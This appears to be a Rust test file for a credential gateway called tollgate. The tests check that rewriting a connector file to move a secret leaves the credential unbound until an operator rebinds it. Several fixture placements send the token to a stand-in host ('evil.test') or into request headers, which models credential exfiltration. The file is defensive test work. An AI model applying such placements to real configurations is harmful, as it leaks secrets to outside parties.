//! A credential is bound to where its scheme puts it: a connector file that moves it leaves it unbound until an operator has looked.

use std::collections::BTreeMap;

use aes_gcm::aead::{Aead as _, Payload};
use aes_gcm::{Aes256Gcm, KeyInit as _, Nonce};
use serde_json::Value as Json;

use crate::support::agent::{Raw, exchange};
use crate::support::gateway::{Builder, Gateway};
use crate::support::tollgate::Shell;
use crate::support::upstream::Upstream;

const HOST: &str = "api.test";
const SECRET: &str = "the-real-secret";

/// Thirty-two sevens.
const KEY: &str = "BwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwc=";

fn connector(auth: &str) -> String {
    format!(
        "
connector: api
name: Test API
version: 1
domains: [api.test]
auth:
{auth}
routes: [{{ action: item.get, match: 'GET /items/{{item}}', risk: low }}]
"
    )
}

const BEARER: &str = "  - { id: token, fields: [token], bearer: '{token}' }";

/// Each sends the secret somewhere else, or more of it, or under another scheme's id.
const MOVED: [&str; 6] = [
    "  - { id: token, fields: [token], header: { X-Request-Id: '{token}' } }",
    "  - { id: token, fields: [token], query: { image_url: 'https://evil.test/c?{token}' } }",
    "  - { id: token, fields: [token], bearer: '{token}', header: { User-Agent: '{token}' } }",
    "  - { id: token, fields: [token], bearer: 'x{token}' }",
    "  - { id: token, fields: [token], basic: { username: x, password: '{token}' } }",
    "  - { id: other, fields: [token], bearer: '{token}' }",
];

fn describe(upstream: &Upstream) -> Builder {
    Builder::new()
        .connector("api", &connector(BEARER))
        .policy(
            "api",
            "permissions: [{ agents: [ci], connector: api, access: full }]",
        )
        .settings("vault: { key: { env: KEY } }")
        .env("KEY", KEY)
        .upstream("api.test:443", upstream)
}

fn shell(gateway: &Gateway) -> Shell {
    Shell::at(&gateway.path("")).env("KEY", KEY)
}

async fn get(gateway: &Gateway) -> Raw {
    let mut tls = gateway.agent.tls_tunnel("api.test:443", HOST).await;
    exchange(&mut tls, "GET /items/1 HTTP/1.1\r\nHost: api.test\r\n\r\n").await
}

async fn rewrite(gateway: &Gateway, auth: &str) {
    gateway
        .write("connectors.d/api.yaml", &connector(auth))
        .await;
}

async fn assert_unbound(gateway: &Gateway, upstream: &Upstream, why: &str) {
    let before = upstream.received().len();
    let answer = get(gateway).await;
    assert_eq!(answer.status, 403, "{why}: {}", answer.text());
    assert_eq!(answer.json()["code"], "credential_unhealthy", "{why}");
    assert!(
        answer.text().contains("unbound"),
        "{why}: {}",
        answer.text()
    );
    assert_eq!(upstream.received().len(), before, "{why}");
    let status: Json =
        serde_json::from_slice(&shell(gateway).run(&["--json", "status"], "").await.stdout)
            .unwrap();
    assert_eq!(
        status["credentials_unbound"],
        serde_json::json!(["api"]),
        "{why}"
    );
    let list = shell(gateway).play("tollgate credential list").await;
    assert!(list.contains("unbound"), "{why}: {list}");
}

async fn assert_sent(gateway: &Gateway, upstream: &Upstream, header: &str, value: &str) {
    let answer = get(gateway).await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    let received = upstream.received();
    assert_eq!(received.last().unwrap().header(header), Some(value));
}

#[tokio::test]
async fn a_declared_credential_is_not_sent_where_a_changed_file_puts_it() {
    let upstream = Upstream::start(&[HOST]).await;
    let mut gateway = describe(&upstream)
        .credential("api", HOST, ("token", SECRET))
        .start()
        .await;
    let bearer = format!("Bearer {SECRET}");
    assert_sent(&gateway, &upstream, "authorization", &bearer).await;
    for moved in MOVED {
        rewrite(&gateway, moved).await;
        assert_unbound(&gateway, &upstream, moved).await;
        // What the file said while the gateway was down is not taken on trust either.
        gateway = gateway.restart().await;
        assert_unbound(&gateway, &upstream, moved).await;
        rewrite(&gateway, BEARER).await;
        assert_sent(&gateway, &upstream, "authorization", &bearer).await;
    }
    // Another spelling of the same.
    rewrite(
        &gateway,
        "  - { id: token, fields: [token], header: { authorization: 'Bearer {token}' } }",
    )
    .await;
    assert_sent(&gateway, &upstream, "authorization", &bearer).await;
}

#[tokio::test]
async fn a_credential_that_is_declared_while_the_gateway_runs_is_bound_from_then_on() {
    let upstream = Upstream::start(&[HOST]).await;
    let gateway = describe(&upstream).start().await;
    let secrets = gateway.path("secrets");
    std::fs::create_dir_all(&secrets).unwrap();
    std::fs::write(secrets.join("api"), SECRET).unwrap();
    let text = std::fs::read_to_string(gateway.path("tollgate.yaml")).unwrap();
    let declared = "credentials:\n  - { id: api, connector: api, host: api.test, fields: { token: { file: secrets/api } } }\n";
    gateway
        .write("tollgate.yaml", &format!("{text}\n{declared}"))
        .await;
    assert_sent(
        &gateway,
        &upstream,
        "authorization",
        &format!("Bearer {SECRET}"),
    )
    .await;
    // The next start must not take what the file says by then for the first thing that it says.
    std::fs::write(gateway.path("connectors.d/api.yaml"), connector(MOVED[0])).unwrap();
    let gateway = gateway.restart().await;
    assert_unbound(&gateway, &upstream, "moved before a restart").await;
}

#[tokio::test]
async fn rebind_shows_the_change_and_binds_a_declared_credential_anew() {
    let upstream = Upstream::start(&[HOST]).await;
    let gateway = describe(&upstream)
        .credential("api", HOST, ("token", SECRET))
        .start()
        .await;
    rewrite(
        &gateway,
        "  - { id: token, fields: [token], header: { X-Key: '{token}' } }",
    )
    .await;
    assert_unbound(&gateway, &upstream, "moved").await;
    let shown = shell(&gateway).play("tollgate credential rebind api").await;
    assert!(
        shown.contains("was  header authorization: Bearer {token}"),
        "{shown}"
    );
    assert!(shown.contains("now  header x-key: {token}"), "{shown}");
    gateway.followed().await;
    assert_sent(&gateway, &upstream, "x-key", SECRET).await;
    let gateway = gateway.restart().await;
    assert_sent(&gateway, &upstream, "x-key", SECRET).await;
}

#[tokio::test]
async fn a_stored_credential_is_not_sent_where_a_changed_file_puts_it() {
    let upstream = Upstream::start(&[HOST]).await;
    let gateway = describe(&upstream).start().await;
    let done = shell(&gateway)
        .run(&["credential", "add", "api"], &format!("{SECRET}\n"))
        .await;
    assert!(done.status.success(), "{done:?}");
    gateway.followed().await;
    assert_sent(
        &gateway,
        &upstream,
        "authorization",
        &format!("Bearer {SECRET}"),
    )
    .await;
    for moved in MOVED {
        rewrite(&gateway, moved).await;
        assert_unbound(&gateway, &upstream, moved).await;
    }
    rewrite(&gateway, MOVED[0]).await;
    let shown = shell(&gateway)
        .play(
            "tollgate credential rebind --all
             tollgate --json credential rebind api
             tollgate credential rebind nothing
             tollgate credential rebind",
        )
        .await;
    super::super::cli::assert_shown("credential_rebind", &shown);
    gateway.followed().await;
    assert_sent(&gateway, &upstream, "x-request-id", SECRET).await;
    // A scheme of other fields cannot take it.
    rewrite(
        &gateway,
        "  - { id: token, fields: [key], bearer: '{key}' }",
    )
    .await;
    let shown = shell(&gateway).play("tollgate credential rebind api").await;
    assert!(
        shown.contains("does not have") && shown.contains("[exit 1]"),
        "{shown}"
    );
}

/// One row as the build before wrote it: its associated data has no placement.
fn sealed_before(id: &str, scheme: &str) -> Vec<u8> {
    let binding = r#"{"hosts":["api.test:443"],"path":"/","urls":[],"agents":[]}"#;
    let parts: [&[u8]; 9] = [
        b"tollgate credential 1",
        id.as_bytes(),
        b"api",
        scheme.as_bytes(),
        b"{}",
        binding.as_bytes(),
        &1_u32.to_be_bytes(),
        &[0],
        b"2026-01-01T00:00:00Z",
    ];
    let mut data = Vec::new();
    for part in parts {
        data.extend_from_slice(&(part.len() as u64).to_be_bytes());
        data.extend_from_slice(part);
    }
    let plain = serde_json::to_vec(&BTreeMap::from([("token", SECRET)])).unwrap();
    let payload = Payload {
        msg: &plain,
        aad: &data,
    };
    let cipher = Aes256Gcm::new(&[7; 32].into());
    [
        [9; 12].as_slice(),
        &cipher.encrypt(&Nonce::from([9; 12]), payload).unwrap(),
    ]
    .concat()
}

/// Takes the store back to the tables of the build before, with rows of its own.
async fn make_older(gateway: &Gateway, rows: &[(&str, &str)]) {
    use sqlx::{ConnectOptions as _, Connection as _};
    let options =
        sqlx::sqlite::SqliteConnectOptions::new().filename(gateway.path("state/tollgate.db"));
    let mut database = options.connect().await.unwrap();
    let older =
        "DROP TABLE policy; DROP TABLE unrecorded; DROP TABLE pin; ALTER TABLE credential DROP COLUMN placement;
                 ALTER TABLE agent_token DROP COLUMN created_at; ALTER TABLE agent_token DROP COLUMN used_at;
                 UPDATE meta SET value = '2' WHERE key = 'schema_version';";
    sqlx::raw_sql(older).execute(&mut database).await.unwrap();
    for (id, scheme) in rows {
        sqlx::query(
            "INSERT INTO credential VALUES (?, 'api', ?, '{}', ?, 1, ?, 0, '2026-01-01T00:00:00Z')",
        )
        .bind(*id)
        .bind(*scheme)
        .bind(r#"{"hosts":["api.test:443"],"path":"/","urls":[],"agents":[]}"#)
        .bind(sealed_before(id, scheme))
        .execute(&mut database)
        .await
        .unwrap();
    }
    database.close().await.unwrap();
}

async fn sealed(gateway: &Gateway) -> Vec<Vec<u8>> {
    let store = gateway.store().await;
    let rows = store.credentials().await.unwrap();
    store.close().await;
    rows.into_iter().map(|row| row.sealed).collect()
}

#[tokio::test]
async fn rows_of_the_build_before_are_bound_once_at_start_and_serve_unchanged() {
    let upstream = Upstream::start(&[HOST]).await;
    let gateway = describe(&upstream).start().await;
    make_older(&gateway, &[("api", "token")]).await;
    let before = sealed_before("api", "token");
    let gateway = gateway.restart().await;
    assert_sent(
        &gateway,
        &upstream,
        "authorization",
        &format!("Bearer {SECRET}"),
    )
    .await;
    let told = shell(&gateway).play("tollgate status").await;
    assert!(
        told.contains("bound to where their schemes put them at this start: api"),
        "{told}"
    );
    let once = sealed(&gateway).await;
    assert_ne!(once, [before]);
    // The second start has nothing to do.
    let gateway = gateway.restart().await;
    assert_eq!(sealed(&gateway).await, once);
    let told = shell(&gateway).play("tollgate status").await;
    assert!(!told.contains("at this start"), "{told}");
    rewrite(&gateway, MOVED[0]).await;
    assert_unbound(&gateway, &upstream, "moved after it was bound").await;
}

#[tokio::test]
async fn a_row_of_the_build_before_whose_scheme_is_gone_is_bound_to_nothing_that_comes_later() {
    let upstream = Upstream::start(&[HOST]).await;
    let gateway = describe(&upstream).start().await;
    make_older(&gateway, &[("api", "gone")]).await;
    let gateway = gateway.restart().await;
    assert_unbound(&gateway, &upstream, "no such scheme").await;
    rewrite(
        &gateway,
        "  - { id: gone, fields: [token], header: { X-Request-Id: '{token}' } }",
    )
    .await;
    assert_unbound(&gateway, &upstream, "a scheme that came later").await;
    let shown = shell(&gateway).play("tollgate credential rebind api").await;
    assert!(shown.contains("was  nowhere"), "{shown}");
}

/// Edits the pins of declared credentials behind the gateway's back.
async fn edit_pins(gateway: &Gateway, statement: &'static str) {
    use sqlx::{ConnectOptions as _, Connection as _};
    let options =
        sqlx::sqlite::SqliteConnectOptions::new().filename(gateway.path("state/tollgate.db"));
    let mut database = options.connect().await.unwrap();
    sqlx::raw_sql(statement)
        .execute(&mut database)
        .await
        .unwrap();
    database.close().await.unwrap();
}

#[tokio::test]
async fn what_a_declared_credential_was_bound_to_cannot_be_edited_in_the_store() {
    let upstream = Upstream::start(&[HOST]).await;
    let gateway = describe(&upstream)
        .credential("api", HOST, ("token", SECRET))
        .start()
        .await;
    edit_pins(&gateway, "UPDATE pin SET sealed = zeroblob(200)").await;
    let gateway = gateway.restart().await;
    assert_unbound(&gateway, &upstream, "an edited pin").await;
}

#[tokio::test]
async fn a_deleted_pin_is_no_first_sight_and_an_operator_binds_the_credential_again() {
    let upstream = Upstream::start(&[HOST]).await;
    let gateway = describe(&upstream)
        .credential("api", HOST, ("token", SECRET))
        .start()
        .await;
    let pinned = |gateway: &Gateway| {
        let records = crate::journal::records(&gateway.path("state/journal"));
        let pinned = records
            .iter()
            .filter(|record| record["what"] == "credential.pinned");
        pinned
            .map(|record| record["subject"].clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(pinned(&gateway), ["api"]);
    edit_pins(&gateway, "DELETE FROM pin").await;
    rewrite(&gateway, MOVED[0]).await;
    let gateway = gateway.restart().await;
    assert_unbound(&gateway, &upstream, "a deleted pin").await;
    assert_eq!(pinned(&gateway), ["api"]);
    let shown = shell(&gateway).play("tollgate credential rebind api").await;
    assert!(shown.contains("api"), "{shown}");
    let gateway = gateway.restart().await;
    let told = shell(&gateway).play("tollgate status").await;
    assert!(!told.contains("UNBOUND"), "{told}");
}
